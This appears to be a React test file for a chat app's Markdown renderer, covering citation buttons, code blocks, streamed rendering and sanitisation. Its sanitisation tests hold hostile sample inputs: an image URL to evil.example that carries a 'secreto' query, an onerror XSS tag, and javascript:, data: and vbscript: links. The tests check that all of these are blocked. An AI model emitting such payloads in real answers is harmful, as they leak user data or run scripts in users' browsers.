import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, test, vi } from 'vitest';
import { aPassage } from '@/tests/chatStream';
import { CitationContext } from './citationContext';
import { Markdown } from './Markdown';

function draw(text: string, isGrowing = false) {
  const open = vi.fn();
  const byNumber = new Map([[1, aPassage()]]);
  const view = render(
    <CitationContext value={{ byNumber, open }}>
      <Markdown text={text} isGrowing={isGrowing} />
    </CitationContext>,
  );
  return { ...view, open };
}

const chips = () => screen.queryAllByRole('button', { name: /^Cita/ });

describe('a citation', () => {
  test('is a button that names its document and opens its passage', async () => {
    const { open } = draw('Cuesta 729 € [1].');

    await userEvent.click(screen.getByRole('button', { name: 'Cita 1: tienda.es.txt' }));

    expect(open).toHaveBeenCalledWith(aPassage(), 'Cuesta 729 € ');
  });

  test.each([
    ['Antes. Cuesta **729 €** *en tienda* [1].', 'Antes. Cuesta 729 € en tienda '],
    ['Otra cosa [9] y cuesta `729` € [9][1].', ' y cuesta 729 € '],
    ['- Otra cosa\n- Cuesta\n  729 € [1]', 'Cuesta 729 € '],
    ['|a|b|\n|-|-|\n|Molinera|729 € [1]|', '  Molinera  729 € '],
    ['Un párrafo.\n\n> [1]', ''],
  ])('keeps the words that it stands for: %s', async (text, words) => {
    const { open } = draw(text);

    await userEvent.click(screen.getByRole('button', { name: 'Cita 1: tienda.es.txt' }));

    expect(open).toHaveBeenCalledWith(aPassage(), words);
  });

  test('of a passage that nobody gave stays what was written', () => {
    draw('Cuesta [7].');

    expect(chips()).toHaveLength(0);
    expect(screen.getByText('Cuesta [7].')).toBeVisible();
  });

  test('is never made of code or of a link', () => {
    draw('`a[1]` y [enlace [1]](https://example.com)\n\n```js\nx[1]\n```\n\n    y[1]');

    expect(chips()).toHaveLength(0);
  });

  test('is made in tables, lists, headings and emphasis', () => {
    draw('# T [1]\n\n- a **b [1]**\n\n|x|\n|-|\n|c [1]|\n\n[1]: no es una definición');

    expect(chips()).toHaveLength(4);
  });

  test('shows the words of its passage when the keyboard reaches it', async () => {
    draw('Cuesta [1].');

    await userEvent.tab();

    expect(screen.getByRole('tooltip', { hidden: true })).toHaveTextContent('La Molinera cuesta 729 €');
  });
});

describe('an answer cannot', () => {
  test('load an image: its alternative text stands there', () => {
    const { container } = draw('![el logo](https://evil.example/?q=secreto) ![](//evil.example/y.png)');

    expect(container).toHaveTextContent('imagen: el logo');
    expect(container.querySelector('img, picture, svg image, [src], [srcset]')).toBeNull();
    expect(container.innerHTML).not.toContain('evil');
  });

  test('hold HTML: it is shown as it was written', () => {
    const { container } = draw(
      '<img src=x onerror=alert(1)> <b>a</b>\n\n<style>*{}</style>\n\n<iframe src="//e"></iframe>',
    );

    expect(container.querySelector('img, b, style, iframe')).toBeNull();
    expect(container).toHaveTextContent('<img src=x onerror=alert(1)>');
  });

  test.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', '//evil.example', '/token', 'JaVaScRiPt:x'])(
    'link to %s',
    (href) => {
      draw(`[pulsa](<${href}>) <javascript:alert(1)>`);

      expect(screen.queryByRole('link')).toBeNull();
    },
  );

  test('style itself or name what scripts look for', () => {
    const { container } = draw('```js" style="x\nconst a = 1\n```\n\n- [x] hecho');

    expect(container.querySelector('[id^="user"], [name], [style]')).toBeNull();
    expect(screen.getByRole('checkbox')).toBeDisabled();
  });
});

test('a link opens elsewhere and tells its page nothing of ours', () => {
  draw('[la web](https://example.com/a?b=c) https://otra.example');

  for (const link of screen.getAllByRole('link')) {
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  }
});

describe('a block of code', () => {
  test('names its language, can be copied and is reached by keyboard', async () => {
    draw('```python\nprint("hola")\n```');

    expect(screen.getByRole('region', { name: 'python' })).toHaveAttribute('tabindex', '0');
    expect(within(screen.getByRole('figure')).getByRole('button', { name: 'Copiar código' })).toBeVisible();
    expect(await screen.findByText('"hola"')).toHaveClass('text-ok');
  });

  test('has no colours while it grows', () => {
    draw('Así:\n\n```python\nprint("ho', true);

    expect(screen.getByText('print("ho')).toBeVisible();
  });
});

test('an answer that grows word by word ends as the same document as one that came at once', () => {
  const text =
    '# Uno\n\nDos **tres** [1]\n\n- a\n- b\n\n```js\nlet a\n```\n\n|x|y|\n|-|-|\n|1|2|\n\nFin. Y otra cosa';
  const { container, rerender } = render(<Markdown text="" isGrowing />);
  for (let end = 1; end <= text.length; end++) rerender(<Markdown text={text.slice(0, end)} isGrowing />);
  rerender(<Markdown text={text} isGrowing={false} />);
  const grown = container.textContent;

  const { container: whole } = render(<Markdown text={text} isGrowing={false} />);

  expect(grown).toBe(whole.textContent);
});
